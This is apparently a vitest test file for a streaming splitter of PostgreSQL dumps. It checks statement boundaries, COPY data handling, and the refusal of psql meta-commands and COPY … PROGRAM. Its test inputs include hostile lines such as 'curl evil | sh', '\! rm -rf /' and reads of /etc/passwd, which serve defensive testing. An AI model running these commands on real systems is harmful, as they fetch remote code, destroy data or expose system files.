import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';

import { describe, expect, it } from 'vitest';

import { InvalidInputError } from '../../src/core/errors.js';
import { SqlSplitter, sqlEvents, type SplitterResult } from '../../src/services/project/db/sql-statements.js';

// ---------------------------------------------------------------------------------------------
// helpers

/** What the splitter made of an input: statements as `S<line>[!skip][@dataLine]:<sql>`, COPY data merged. */
type Outcome = { ok: true; events: string[]; result: SplitterResult } | { ok: false; error: InvalidInputError };

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function toBuf(input: string | Buffer): Buffer {
  return Buffer.isBuffer(input) ? input : Buffer.from(input, 'utf8');
}

function randomChunks(buf: Buffer, seed: number, max = 17): Buffer[] {
  const rnd = mulberry32(seed);
  const out: Buffer[] = [];
  for (let i = 0; i < buf.length; ) {
    const n = 1 + Math.floor(rnd() * max);
    out.push(buf.subarray(i, i + n));
    i += n;
  }
  return out;
}

/** Feeds the chunks one at a time, only when the splitter asks for more (as sqlEvents does). */
function splitChunks(chunks: Buffer[], options: ConstructorParameters<typeof SqlSplitter>[0] = {}, onStatement?: (sql: string, s: SqlSplitter) => void): Outcome {
  const splitter = new SqlSplitter(options);
  const events: string[] = [];
  let data: Buffer[] | null = null;
  let k = 0;
  try {
    for (;;) {
      const event = splitter.next();
      if (event === null) {
        if (k < chunks.length) splitter.write(chunks[k++]!);
        else splitter.end();
        continue;
      }
      if (event.kind === 'copy-data') {
        (data ??= []).push(Buffer.from(event.data));
        continue;
      }
      if (data !== null) {
        events.push(`D:${Buffer.concat(data).toString('latin1')}`);
        data = null;
      }
      if (event.kind === 'end') break;
      if (event.kind === 'copy-end') events.push('E');
      else {
        const sql = event.sql.toString('latin1');
        events.push(`S${event.line}${event.skip ? `!${event.skip}` : ''}${event.copy ? `@${event.copy.dataLine}` : ''}:${sql}`);
        onStatement?.(sql, splitter);
      }
    }
    return { ok: true, events, result: splitter.result };
  } catch (error) {
    if (!(error instanceof InvalidInputError)) throw error;
    return { ok: false, error };
  }
}

function same(a: Outcome, b: Outcome): boolean {
  if (a.ok && b.ok) return JSON.stringify([a.events, a.result]) === JSON.stringify([b.events, b.result]);
  if (!a.ok && !b.ok) return a.error.message === b.error.message;
  return false;
}

function show(o: Outcome): string {
  return o.ok ? JSON.stringify(o.events) : `error: ${o.error.message}`;
}

/**
 * Splits `input` delivered whole, one byte per chunk, cut in two at every offset and in random
 * chunk sizes; all must give the same outcome, which is returned.
 */
function splitAll(input: string | Buffer, options: ConstructorParameters<typeof SqlSplitter>[0] = {}): Outcome {
  const buf = toBuf(input);
  const whole = splitChunks([buf], options);
  const variants: Buffer[][] = [[...buf].map((b) => Buffer.from([b])), randomChunks(buf, buf.length), randomChunks(buf, 7, 300)];
  for (let cut = 1; cut < buf.length; cut++) variants.push([buf.subarray(0, cut), buf.subarray(cut)]);
  for (const chunks of variants) {
    const other = splitChunks(chunks, options);
    if (!same(whole, other)) {
      throw new Error(`chunking changed the outcome for ${JSON.stringify(buf.toString('latin1'))} split as ${JSON.stringify(chunks.map((c) => c.length))}:\n  whole: ${show(whole)}\n  split: ${show(other)}`);
    }
  }
  return whole;
}

function events(input: string | Buffer, options: ConstructorParameters<typeof SqlSplitter>[0] = {}): string[] {
  const o = splitAll(input, options);
  if (!o.ok) throw new Error(`expected the input to pass, got: ${o.error.message}`);
  return o.events;
}

function refused(input: string | Buffer, options: ConstructorParameters<typeof SqlSplitter>[0] = {}): InvalidInputError {
  const o = splitAll(input, options);
  if (o.ok) throw new Error(`expected the input to be refused: ${JSON.stringify(toBuf(input).toString('latin1'))} gave ${show(o)}`);
  expect(o.error.exitCode).toBe(4);
  expect(o.error.hint).toBeTruthy();
  return o.error;
}

function refusedMeta(input: string | Buffer, name: string, line: number, options: ConstructorParameters<typeof SqlSplitter>[0] = {}): void {
  expect(refused(input, options).message).toBe(
    `the dump contains the psql meta-command \\${name} at line ${line}; divio sends the dump's SQL to the server itself and runs no psql meta-commands`,
  );
}

/** Only the SQL of the statements that run. */
function sent(input: string | Buffer, options: ConstructorParameters<typeof SqlSplitter>[0] = {}): string[] {
  return events(input, options)
    .filter((e) => e.startsWith('S') && !/^S\d+!/.test(e))
    .map((e) => e.slice(e.indexOf(':') + 1));
}

// ---------------------------------------------------------------------------------------------
// a realistic pg_dump (PostgreSQL 17) plain-format dump

const RESTRICT_KEY = '6kQwzE0fYx3aDhBQ1rj8dvTqLjVQ9NG9bTz0t3kTt0bVqJxVgqYc';

const DROPPED_STATEMENTS = [
  'ALTER SCHEMA app OWNER TO app_owner;',
  'ALTER FUNCTION app.slugify(value text) OWNER TO app_owner;',
  'ALTER FUNCTION app.audit() OWNER TO "App Owner";',
  'ALTER TABLE app.article OWNER TO app_owner;',
  'ALTER SEQUENCE app.article_id_seq OWNER TO app_owner;',
  'GRANT USAGE ON SCHEMA app TO reader;',
  'REVOKE ALL ON TABLE app.article FROM PUBLIC;',
  'GRANT SELECT ON TABLE app.article TO reader;',
  'ALTER DEFAULT PRIVILEGES FOR ROLE app_owner IN SCHEMA app GRANT SELECT ON TABLES TO reader;',
];

const PG_DUMP = String.raw`--
-- PostgreSQL database dump
--

\restrict ${RESTRICT_KEY}

-- Dumped from database version 17.6 (Debian 17.6-1.pgdg12+1)
-- Dumped by pg_dump version 17.6 (Debian 17.6-1.pgdg12+1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET transaction_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

--
-- Name: app; Type: SCHEMA; Schema: -; Owner: app_owner
--

CREATE SCHEMA app;


ALTER SCHEMA app OWNER TO app_owner;

--
-- Name: slugify(text); Type: FUNCTION; Schema: app; Owner: app_owner
--

CREATE FUNCTION app.slugify(value text) RETURNS text
    LANGUAGE sql IMMUTABLE
    AS $$
  -- keep letters, digits and dashes; \! and \copy in here are only text
  SELECT regexp_replace(lower(value), '[^a-z0-9\-]+', '-', 'g');
$$;


ALTER FUNCTION app.slugify(value text) OWNER TO app_owner;

--
-- Name: audit(); Type: FUNCTION; Schema: app; Owner: App Owner
--

CREATE FUNCTION app.audit() RETURNS trigger
    LANGUAGE plpgsql
    AS $body$
BEGIN
  RAISE NOTICE 'it''s % at C:\temp\', TG_OP;  -- a backslash before a quote: \'
  PERFORM E'\\' || $$ nested $$ || $x$ \! $x$;
  RETURN NEW;
END;
$body$;


ALTER FUNCTION app.audit() OWNER TO "App Owner";

--
-- Name: total(integer, integer); Type: FUNCTION; Schema: app; Owner: app_owner
--

CREATE FUNCTION app.total(a integer, b integer) RETURNS integer
    LANGUAGE sql
    BEGIN ATOMIC
 SELECT (total.a + total.b);
 SELECT CASE WHEN (total.a > 0) THEN 1 ELSE 0 END;
END;

SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: article; Type: TABLE; Schema: app; Owner: app_owner
--

CREATE TABLE app.article (
    id integer NOT NULL,
    title text NOT NULL,
    body text,
    path text DEFAULT 'C:\data'::text,
    "Odd ""name""" text,
    CONSTRAINT title_not_blank CHECK ((title <> ''::text))
);


ALTER TABLE app.article OWNER TO app_owner;

--
-- Name: article_id_seq; Type: SEQUENCE; Schema: app; Owner: app_owner
--

CREATE SEQUENCE app.article_id_seq
    AS integer
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


ALTER SEQUENCE app.article_id_seq OWNER TO app_owner;

--
-- Name: article_id_seq; Type: SEQUENCE OWNED BY; Schema: app; Owner: app_owner
--

ALTER SEQUENCE app.article_id_seq OWNED BY app.article.id;

--
-- Name: article id; Type: DEFAULT; Schema: app; Owner: app_owner
--

ALTER TABLE ONLY app.article ALTER COLUMN id SET DEFAULT nextval('app.article_id_seq'::regclass);


--
-- Data for Name: article; Type: TABLE DATA; Schema: app; Owner: app_owner
--

COPY app.article (id, title, body, path, "Odd ""name""") FROM stdin;
1	Hello	Line one\nLine two	C:\\temp\\	\N
2	Quotes ' and "	\\! not a command	\N	x
3	Tabs\tinside	-- not a comment	/* nor this */	$$
4	\.not the end	\\.	'unterminated	"
\.


--
-- Data for Name: tag; Type: TABLE DATA; Schema: app; Owner: app_owner
--

COPY app.tag (id, name) FROM stdin;
\.


--
-- Name: article_id_seq; Type: SEQUENCE SET; Schema: app; Owner: app_owner
--

SELECT pg_catalog.setval('app.article_id_seq', 4, true);


--
-- Name: article article_pkey; Type: CONSTRAINT; Schema: app; Owner: app_owner
--

ALTER TABLE ONLY app.article
    ADD CONSTRAINT article_pkey PRIMARY KEY (id);


--
-- Name: article article_audit; Type: TRIGGER; Schema: app; Owner: app_owner
--

CREATE TRIGGER article_audit AFTER INSERT ON app.article FOR EACH ROW EXECUTE FUNCTION app.audit();


--
-- Name: SCHEMA app; Type: ACL; Schema: -; Owner: app_owner
--

GRANT USAGE ON SCHEMA app TO reader;


--
-- Name: TABLE article; Type: ACL; Schema: app; Owner: app_owner
--

REVOKE ALL ON TABLE app.article FROM PUBLIC;
GRANT SELECT ON TABLE app.article TO reader;


--
-- Name: DEFAULT PRIVILEGES FOR TABLES; Type: DEFAULT ACL; Schema: app; Owner: app_owner
--

ALTER DEFAULT PRIVILEGES FOR ROLE app_owner IN SCHEMA app GRANT SELECT ON TABLES TO reader;


--
-- PostgreSQL database dump complete
--

\unrestrict ${RESTRICT_KEY}

`;


const CLOSING = '-- PostgreSQL database dump complete';
const ARTICLE_DATA = String.raw`1	Hello	Line one\nLine two	C:\\temp\\	\N
2	Quotes ' and "	\\! not a command	\N	x
3	Tabs\tinside	-- not a comment	/* nor this */	$$
4	\.not the end	\\.	'unterminated	"
`;

describe('SQL splitter: pg_dump output', () => {
  it('hands out each statement with its line, marks ownership and privileges to skip, skips \\restrict lines, passes COPY data byte for byte', () => {
    const o = splitAll(PG_DUMP);
    if (!o.ok) throw o.error;
    const lineOf = (text: string) => PG_DUMP.slice(0, PG_DUMP.indexOf(text)).split('\n').length;
    const skipped = o.events.filter((e) => /^S\d+!/.test(e)).map((e) => e.slice(e.indexOf(':') + 1));
    expect(skipped).toEqual(DROPPED_STATEMENTS);
    expect(o.events).toContain(`S${lineOf('SET client_encoding')}:SET client_encoding = 'UTF8';`);
    expect(o.events).toContain(`S${lineOf('ALTER SCHEMA app OWNER')}!ownership:ALTER SCHEMA app OWNER TO app_owner;`);
    const copyLine = lineOf('COPY app.article');
    const copyAt = o.events.indexOf(`S${copyLine}@${copyLine + 1}:COPY app.article (id, title, body, path, "Odd ""name""") FROM stdin;`);
    expect(copyAt).toBeGreaterThan(0);
    expect(o.events[copyAt + 1]).toBe(`D:${ARTICLE_DATA}`);
    expect(o.events[copyAt + 2]).toBe('E');
    // the empty table: a COPY with no data at all
    const tag = o.events.findIndex((e) => e.endsWith(':COPY app.tag (id, name) FROM stdin;'));
    expect(o.events[tag + 1]).toBe('E');
    // the function bodies (dollar quotes, BEGIN ATOMIC) are one statement each
    expect(o.events.some((e) => e.includes('CREATE FUNCTION app.audit()') && e.endsWith('$body$;'))).toBe(true);
    expect(o.events).toContain(
      `S${lineOf('CREATE FUNCTION app.total')}:CREATE FUNCTION app.total(a integer, b integer) RETURNS integer\n    LANGUAGE sql\n    BEGIN ATOMIC\n SELECT (total.a + total.b);\n SELECT CASE WHEN (total.a > 0) THEN 1 ELSE 0 END;\nEND;`,
    );
    expect(o.events.at(-1)).toBe(`S${lineOf('ALTER DEFAULT PRIVILEGES')}!privileges:ALTER DEFAULT PRIVILEGES FOR ROLE app_owner IN SCHEMA app GRANT SELECT ON TABLES TO reader;`);
    expect(o.result).toEqual({ pgDump: true, complete: true, skippedStatements: DROPPED_STATEMENTS.length, skippedMetaCommands: 2, lines: PG_DUMP.split('\n').length - 1 });
  });

  it('gives the same outcome for random chunkings', () => {
    const buf = Buffer.from(PG_DUMP);
    const whole = splitChunks([buf]);
    for (let seed = 1; seed <= 30; seed++) expect(same(whole, splitChunks(randomChunks(buf, seed, 1 + seed * 13)))).toBe(true);
  });

  it('passes the same dump with CRLF line endings (the CR stays in the COPY data)', () => {
    const crlf = PG_DUMP.replace(/\n/g, '\r\n');
    const o = splitAll(crlf);
    if (!o.ok) throw o.error;
    expect(o.events).toContain(`D:${ARTICLE_DATA.replace(/\n/g, '\r\n')}`);
    expect(o.result).toMatchObject({ pgDump: true, complete: true, skippedStatements: DROPPED_STATEMENTS.length, skippedMetaCommands: 2 });
  });

  it('refuses the dump cut off at any point before its closing line', () => {
    const buf = Buffer.from(PG_DUMP);
    const headerEnd = PG_DUMP.indexOf('--\n', 3) + 3;
    const closingEnd = PG_DUMP.indexOf(CLOSING) + CLOSING.length;
    const reasons = new Set<string>();
    for (let cut = headerEnd; cut < closingEnd; cut++) {
      const outcome = splitChunks(randomChunks(buf.subarray(0, cut), cut, 64));
      if (outcome.ok) throw new Error(`the dump cut at ${cut} passed: ...${JSON.stringify(PG_DUMP.slice(cut - 40, cut))}`);
      expect(outcome.error.message).toMatch(/^the dump is incomplete: /);
      reasons.add(outcome.error.message.replace(/\$[a-z]*\$/, '$tag$'));
    }
    expect([...reasons].sort()).toEqual(
      [
        'the dump is incomplete: it ends in the middle of a statement (the file was cut off?)',
        'the dump is incomplete: it ends inside a COPY data block (no closing \\. line) (the file was cut off?)',
        'the dump is incomplete: it ends inside a dollar-quoted string ($tag$) (the file was cut off?)',
        'the dump is incomplete: it ends inside a quoted identifier (the file was cut off?)',
        'the dump is incomplete: it ends inside a quoted string (the file was cut off?)',
        'the dump is incomplete: it ends right after a COPY ... FROM stdin statement, before its data (the file was cut off?)',
        "the dump is incomplete: it starts like pg_dump output but lacks its closing '-- PostgreSQL database dump complete' line (the file was cut off?)",
      ].sort(),
    );
    for (const cut of [closingEnd, closingEnd + 1, closingEnd + 4, buf.length - 2]) expect(splitChunks([buf.subarray(0, cut)]).ok).toBe(true);
  });

  it('a closing line inside a string or a COPY block, or followed by more SQL, does not count', () => {
    const header = '--\n-- PostgreSQL database dump\n--\n\n';
    refused(`${header}SELECT '\n${CLOSING}\n';\n`);
    refused(`${header}COPY t (a) FROM stdin;\n${CLOSING}\n\\.\n`);
    refused(`${header}SELECT 1;\n${CLOSING}\n--\n\nSELECT 2;\n`);
    const o = splitAll(`${header}SELECT 1;\n${CLOSING}\n--\n\n`);
    expect(o.ok && o.result).toMatchObject({ pgDump: true, complete: true });
  });

  it('refuses a pg_dumpall cluster dump', () => {
    expect(refused('--\n-- PostgreSQL database cluster dump\n--\n\nCREATE ROLE app;\n\\connect template1\n').message).toMatch(/pg_dumpall cluster dump/);
  });
});

describe('SQL splitter: statement boundaries', () => {
  it('passes a hand-written file without the pg_dump header; what is left at the end is sent as psql would', () => {
    expect(events("-- my seed data\nCREATE TABLE t (a int, b text);\nINSERT INTO t VALUES (1, 'x'), (2, E'it\\'s');\n")).toEqual([
      'S2:CREATE TABLE t (a int, b text);',
      "S3:INSERT INTO t VALUES (1, 'x'), (2, E'it\\'s');",
    ]);
    expect(sent("SELECT 'oops;\n")).toEqual(["SELECT 'oops;\n"]);
    expect(sent('SELECT 1; /* unterminated\n')).toEqual(['SELECT 1;']);
    expect(events('COPY t (a) FROM stdin;\n1\n2\n')).toEqual(['S1@2:COPY t (a) FROM stdin;', 'D:1\n2\n', 'E']);
    expect(sent('SELECT 1')).toEqual(['SELECT 1']);
    expect(sent('SELECT 1 -')).toEqual(['SELECT 1 -']);
    expect(sent('SELECT 1;\n-')).toEqual(['SELECT 1;', '-']);
    expect(sent('  \n-- only a comment\n/* and another */\n')).toEqual([]);
  });

  it('finds semicolons only outside quotes, comments, parentheses and BEGIN ATOMIC bodies', () => {
    expect(sent("SELECT 'a;b', 'it''s;', \"x;\"\"y\", $$;$$, $t$ $$ ; $t$, E'\\';', e'\\\\';SELECT 2;")).toEqual([
      "SELECT 'a;b', 'it''s;', \"x;\"\"y\", $$;$$, $t$ $$ ; $t$, E'\\';', e'\\\\';",
      'SELECT 2;',
    ]);
    expect(sent('SELECT 1 -- a; comment\n; SELECT /* a; /* nested; */ still; */ 2;')).toEqual(['SELECT 1 -- a; comment\n;', 'SELECT /* a; /* nested; */ still; */ 2;']);
    expect(sent('CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO u VALUES (1); INSERT INTO u VALUES (2));SELECT 3;')).toHaveLength(2);
    expect(sent('CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO t VALUES (1); SELECT CASE WHEN true THEN 1 END; END;SELECT 4;')).toEqual([
      'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC INSERT INTO t VALUES (1); SELECT CASE WHEN true THEN 1 END; END;',
      'SELECT 4;',
    ]);
    // BEGIN outside a function definition is a transaction
    expect(sent('BEGIN; SELECT 1; END;')).toEqual(['BEGIN;', 'SELECT 1;', 'END;']);
    // not dollar quotes: $1, a$b$, a lone $
    expect(sent('SELECT $1; SELECT a$b$; SELECT 1;')).toEqual(['SELECT $1;', 'SELECT a$b$;', 'SELECT 1;']);
    // a quote continued on a following line stays the same kind of string (as the server lexes it)
    expect(sent("SELECT E'a'\n'\\' ; still' ; SELECT 2;")).toEqual(["SELECT E'a'\n'\\' ; still' ;", 'SELECT 2;']);
    expect(sent("SELECT 'a' 'b;' ; SELECT 2;")).toEqual(["SELECT 'a' 'b;' ;", 'SELECT 2;']);
  });

  it('follows standard_conforming_strings, from SET or from the server', () => {
    const sql = "SELECT 'a\\'; x';\nSELECT 2;\n";
    expect(sent(sql)).toEqual(["SELECT 'a\\';", "x';\nSELECT 2;\n"]);
    expect(sent(`SET standard_conforming_strings = off;\n${sql}`)).toEqual(['SET standard_conforming_strings = off;', "SELECT 'a\\'; x';", 'SELECT 2;']);
    expect(sent(sql, { standardConformingStrings: false })).toEqual(["SELECT 'a\\'; x';", 'SELECT 2;']);
    const o = splitChunks([Buffer.from(`SELECT set_config('standard_conforming_strings', 'off', false);\n${sql}`)], {}, (s, splitter) => {
      if (s.includes('set_config')) splitter.setStandardConformingStrings(false); // what the server reports after it
    });
    expect(o.ok && o.events.slice(1)).toEqual(["S2:SELECT 'a\\'; x';", 'S3:SELECT 2;']);
  });

  it('numbers lines across statements, comments and COPY blocks', () => {
    expect(events('SELECT 1;\n\n  -- c\nSELECT\n2;\nCOPY t FROM stdin;\na\nb\n\\.\nSELECT 3;')).toEqual([
      'S1:SELECT 1;',
      'S4:SELECT\n2;',
      'S6@7:COPY t FROM stdin;',
      'D:a\nb\n',
      'E',
      'S10:SELECT 3;',
    ]);
    const o = splitAll('SELECT 1;\n\nSELECT 2;');
    expect(o.ok && o.result.lines).toBe(3);
  });

  it('marks statements that act outside the target database, on ownership or on privileges (like pg_restore --no-owner --no-acl)', () => {
    const skipped = [
      "CREATE DATABASE mydb WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE = 'en_US.utf8';",
      'ALTER DATABASE mydb OWNER TO postgres;',
      "ALTER DATABASE mydb SET search_path TO 'app', 'public';",
      'DROP DATABASE IF EXISTS mydb;',
      "COMMENT ON DATABASE mydb IS 'the; database';",
      "ALTER ROLE app IN DATABASE mydb SET work_mem TO '8MB';",
      'ALTER TABLE public.t OWNER TO bob;',
      'ALTER TABLE ONLY public."T" OWNER TO "Bob Smith";',
      "ALTER FUNCTION public.f(a integer, b text DEFAULT 'x;y') OWNER TO bob;",
      'ALTER TYPE public.mood OWNER TO CURRENT_USER;',
      'GRANT ALL ON SCHEMA public TO app;',
      'REVOKE ALL\n    ON TABLE public.t\n    FROM PUBLIC;',
      'grant select on all tables in schema public to reader;',
      'ALTER DEFAULT PRIVILEGES FOR ROLE bob GRANT ALL ON TABLES TO app;',
      "SET SESSION AUTHORIZATION 'bob';",
      'RESET SESSION AUTHORIZATION;',
      `ALTER FUNCTION public.f(${Array.from({ length: 40 }, (_, k) => `a${k} integer`).join(', ')})\n    OWNER TO bob;`,
      'ALTER TABLE t OWNER TO bob -- a comment\n;',
    ];
    const kept = [
      'ALTER TABLE public.t ADD COLUMN owner text;',
      "ALTER TABLE public.t ALTER COLUMN note SET DEFAULT 'OWNER TO x';",
      'ALTER TABLE public.t RENAME COLUMN owner TO proprietor;',
      'CREATE TABLE owner (x int);',
      "COMMENT ON TABLE public.t IS 'GRANT ALL';",
      "SELECT 'GRANT', $$ ALTER TABLE t OWNER TO x; $$;",
      'SET session_replication_role = replica;',
      'SET search_path = public;',
      'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ GRANT ALL ON t TO x; $$;',
    ];
    const o = splitChunks([Buffer.from([...skipped, ...kept].join('\n') + '\n')]);
    if (!o.ok) throw o.error;
    expect(o.events.filter((e) => /^S\d+!/.test(e)).map((e) => e.slice(e.indexOf(':') + 1))).toEqual(skipped);
    expect(o.events.filter((e) => !/^S\d+!/.test(e)).map((e) => e.slice(e.indexOf(':') + 1))).toEqual(kept);
    expect(o.result.skippedStatements).toBe(skipped.length);
    expect(sent('/* leading comment */ GRANT x TO y; SELECT 1;')).toEqual(['SELECT 1;']);
  });

  it('skips what pg_dump --create adds: CREATE/ALTER DATABASE and \\connect', () => {
    const dump = ['--', '-- PostgreSQL database dump', '--', '', "CREATE DATABASE shop WITH TEMPLATE = template0 ENCODING = 'UTF8';", 'ALTER DATABASE shop OWNER TO shop_owner;', '\\connect shop', 'CREATE TABLE public.t (a integer);', '--', CLOSING, '--', ''].join('\n');
    expect(sent(dump)).toEqual(['CREATE TABLE public.t (a integer);']);
    const o = splitAll(dump);
    expect(o.ok && o.result).toMatchObject({ pgDump: true, complete: true, skippedStatements: 2, skippedMetaCommands: 1 });
  });
});

describe('SQL splitter: COPY … FROM stdin data', () => {
  const data = '1\t\\N\t\\\\! x\t\\t\n\\! id\n\\\\.\n\\.x\n \\.\n';

  it('passes data lines untouched up to the \\. line, whatever they hold', () => {
    expect(events(`COPY t (a, b, c, d) FROM stdin;\n${data}\\.\n`)).toEqual(['S1@2:COPY t (a, b, c, d) FROM stdin;', `D:${data}`, 'E']);
    expect(events(`COPY t FROM STDIN WITH (FORMAT csv);\n"a\\",b\n\\.\n`)).toEqual(['S1@2:COPY t FROM STDIN WITH (FORMAT csv);', 'D:"a\\",b\n', 'E']);
    expect(events(`copy t from stdout;\n${data}\\.\n`)).toEqual(['S1@2:copy t from stdout;', `D:${data}`, 'E']);
    expect(events(`COPY t FROM stdin;\r\n${data.replace(/\n/g, '\r\n')}\\.\r\n`)).toEqual(['S1@2:COPY t FROM stdin;', `D:${data.replace(/\n/g, '\r\n')}`, 'E']);
    expect(events('COPY t FROM stdin;\n1\n\\.')).toEqual(['S1@2:COPY t FROM stdin;', 'D:1\n', 'E']);
  });

  it('reads the data from the line after the statement, and the rest of that line after the data (as psql does)', () => {
    expect(events(`/* c */ -- d\n  COPY t FROM stdin; SELECT 1;\n${data}\\.\nSELECT 2;\n`)).toEqual([
      'S2@3:COPY t FROM stdin;',
      `D:${data}`,
      'E',
      'S2:SELECT 1;',
      'S9:SELECT 2;',
    ]);
    expect(events('COPY a FROM stdin; COPY b FROM stdin;\n1\n\\.\n2\n\\.\nSELECT 3;\n')).toEqual([
      'S1@2:COPY a FROM stdin;',
      'D:1\n',
      'E',
      'S1@4:COPY b FROM stdin;',
      'D:2\n',
      'E',
      'S6:SELECT 3;',
    ]);
    expect(sent("COPY t FROM stdin; SELECT '\n\\! a\n\\.\n';\n")).toEqual(['COPY t FROM stdin;', "SELECT '\n';"]);
    // the data even comes before the rest of a statement it interrupts
    expect(events('COPY t FROM stdin; GRANT ALL\n1\t\\N\n\\.\nON t TO x;\nSELECT 1;\n')).toEqual([
      'S1@2:COPY t FROM stdin;',
      'D:1\t\\N\n',
      'E',
      'S1!privileges:GRANT ALL\nON t TO x;',
      'S5:SELECT 1;',
    ]);
  });

  it('refuses COPY … PROGRAM, which would run a shell command on the server', () => {
    for (const [sql, line] of [
      ["COPY t FROM PROGRAM 'curl evil | sh';\n", 1],
      ["COPY t TO PROGRAM 'cat > /tmp/x';\n", 1],
      ["SELECT 1;\nCOPY (SELECT 1) TO program 'id';\n", 2],
      ["copy t (a) from\n  program 'id' WITH (FORMAT csv);\n", 1],
    ] as const) {
      expect(refused(sql).message).toBe(`the dump runs a shell command on the database server (COPY ... PROGRAM) at line ${line}; divio refuses it`);
    }
    expect(sent("COPY t FROM '/tmp/program';\nSELECT 'COPY t FROM PROGRAM x';\n")).toHaveLength(2);
  });
});

describe('SQL splitter: psql meta-commands are refused, with their line', () => {
  it.each([
    ['\\! id\n', '!', 1],
    ['SELECT 1;\n\\! rm -rf /\n', '!', 2],
    ['SELECT 1; \\! rm -rf /\n', '!', 1],
    ['SELECT 1 \\gexec\n', 'gexec', 1],
    ["\\copy t from '/etc/passwd'\n", 'copy', 1],
    ['\\o /tmp/out\n', 'o', 1],
    ['\\i /etc/passwd\n', 'i', 1],
    ['\\ir x.sql\n', 'ir', 1],
    ['\\set ON_ERROR_STOP 0\n', 'set', 1],
    ['SELECT 1 \\\\ \\! id\n', '\\', 1],
    ['SELECT 1 \\; SELECT 2;\n', ';', 1],
    ['\\q\n', 'q', 1],
    ['\\.\n', '.', 1],
    ['SELECT 1; \\', '', 1],
    ['SELECT x\\! id\n', '!', 1],
    ['SELECT 1;\n  \\connect other\n', 'connect', 2],
    ['SELECT 1; \\connect other\n', 'connect', 1],
    ['SELECT 1\n\\c other\n', 'c', 2],
    ['SELECT (1,\n\\restrict k\n2);\n', 'restrict', 2],
    ['/* a comment */ \\! id\n', '!', 1],
    ['-- a comment\r\\! id\n', '!', 1],
    ['SELECT $$body$$ \\! id\n', '!', 1],
    ['SELECT "ident" \\! id\n', '!', 1],
    ["SELECT 'a\\' \\! id;\n", '!', 1],
    ["SELECT E'a\\\\' \\! id;\n", '!', 1],
    ["SELECT U&'\\' \\! id;\n", '!', 1],
    ["SELECT x'\\' \\! id;\n", '!', 1],
    ["SELECT :'var' \\! id\n", '!', 1],
    ['COPY t TO stdout;\n\\.\n', '.', 2],
    ['COPY t FROM stdin;\n1\n\\.\n\\! id\n', '!', 4],
    ['COPY t FROM stdin;\n1\n\\.\r\n\\! id\n', '!', 4],
    ["COPY t FROM '/tmp/file';\n\\N\n", 'N', 2],
    ['xCOPY t FROM stdin;\n\\N\n', 'N', 2],
    ['COPY t FROM stdin\n\\N\n', 'N', 2],
    ['-- COPY t FROM stdin;\n\\N\n', 'N', 2],
    ["SET client_encoding = 'UTF8';\n\\encoding SJIS\n", 'encoding', 2],
  ])('%j → \\%s at line %i', (input, name, line) => {
    refusedMeta(input, name, line);
  });

  it('tells how to set an encoding instead of \\encoding', () => {
    expect(refused('\\encoding SJIS\n').hint).toMatch(/SET client_encoding/);
  });

  it('does not mistake backslashes in strings, dollar quotes, comments and identifiers for meta-commands', () => {
    for (const sql of [
      "SELECT E'\\\\! not a command', E'a\\' ; \\! still inside';",
      "SELECT E'\\'' || '\\\\!';",
      'SELECT $$ \\! id $$, $tag$ \\copy $$ \\o $tag$;',
      'SELECT $a$ $b$ \\! $a$;',
      '-- \\! id\nSELECT 1; -- \\o x\n/* \\! id /* \\i nested */ \\q */ SELECT 2;',
      'SELECT "\\!", "a""\\!""";',
      "SELECT 'C:\\temp', '\\\\', '\\d+';",
    ]) {
      expect(splitAll(sql).ok).toBe(true);
    }
  });

  it('skips only the \\restrict, \\unrestrict, \\connect and \\c lines pg_dump writes, at the start of a line', () => {
    const o = splitAll('\\restrict abc\nSELECT 1;\n\\connect mydb\n\\c other\n\\connect -reuse-previous=on "dbname=\'x\'"\n\\unrestrict abc');
    expect(o.ok && o.events).toEqual(['S2:SELECT 1;']);
    expect(o.ok && o.result.skippedMetaCommands).toBe(5);
  });

  it('refuses NUL bytes, which would cut a statement short', () => {
    expect(refused(Buffer.from("SELECT 1;\nSELECT '\0'; \\! id\n", 'latin1')).message).toBe('the dump contains a NUL byte at line 2; plain SQL never does');
  });

  it('passes non-ASCII UTF-8 anywhere', () => {
    expect(events("SELECT * FROM café;\nSELECT 'café', '日本語', E'é\\n', \"名前\"; -- été;\nCOPY t FROM stdin;\n日本\t\\N\n\\.\n")).toHaveLength(5);
  });
});

describe('SQL splitter: client encodings whose trail bytes look like ASCII', () => {
  // 表 in SJIS is 95 5C, ソ 83 5C; 許 in BIG5 is B3 5C; 乗 in GBK 81 5C: the second byte is '\'.
  const bytes = (...parts: (string | number[] | Buffer)[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
  const HYO = [0x95, 0x5c];

  it('SJIS: a trail byte 0x5C is part of the character, in identifiers and in E-strings', () => {
    const dump = bytes("SET client_encoding = 'SJIS';\nCREATE TABLE ", HYO, " (x text);\nINSERT INTO ", HYO, " VALUES (E'", HYO, "'), ('", [0x83, 0x5c], "');\nSELECT 2;\n");
    const o = splitAll(dump);
    if (!o.ok) throw o.error;
    expect(o.events.map((e) => e.slice(0, e.indexOf(':')))).toEqual(['S1', 'S2', 'S3', 'S4']);
    expect(o.events[2]).toBe(`S3:${bytes('INSERT INTO ', HYO, " VALUES (E'", HYO, "'), ('", [0x83, 0x5c], "');").toString('latin1')}`);
    // read as UTF-8, the same bytes hold a backslash outside quotes: refused, never sent
    refusedMeta(dump.subarray(dump.indexOf('CREATE')), '', 1);
  });

